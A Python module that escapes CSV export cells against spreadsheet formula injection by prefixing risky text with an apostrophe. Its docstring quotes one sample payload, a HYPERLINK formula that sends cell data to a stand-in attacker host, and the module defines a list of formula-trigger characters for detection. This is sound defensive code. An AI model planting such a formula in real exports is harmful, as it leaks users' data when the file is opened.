"""CSV exports that a spreadsheet opens as data, never as formulas (CSV/formula injection).

Excel, LibreOffice and Google Sheets run a cell that begins with ``=``, ``+``, ``-`` or ``@``
(and, after trimming, a tab or carriage return) as a formula: a user name like
``=HYPERLINK("https://evil.example?"&A1)`` in a control list would send data away when the file
is opened. Every text cell of an export goes through :func:`safe_cell`, which puts an
apostrophe before such a cell (OWASP's advice; spreadsheets show the text, not the apostrophe's
effect). Numbers, dates and booleans are written as they are: a negative amount stays a number.

Machine-to-machine files (register extracts, the demo's extract) are read back by programs and
are not exports for people: they use the csv module directly.
"""

import csv
import io
from collections.abc import Iterable, Iterator, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """The cell as a spreadsheet may safely open it: a text that could start a formula gets a
    leading apostrophe; anything else is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Iterable[object]) -> list[object]:
    return [safe_cell(value) for value in row]


def csv_lines(header: Sequence[str], rows: Iterable[Iterable[object]]) -> Iterator[str]:
    """The header and the rows as CSV text, one line at a time (for a streaming response)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(safe_row(header))
    for row in rows:
        writer.writerow(safe_row(row))
        yield buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()
    yield buffer.getvalue()
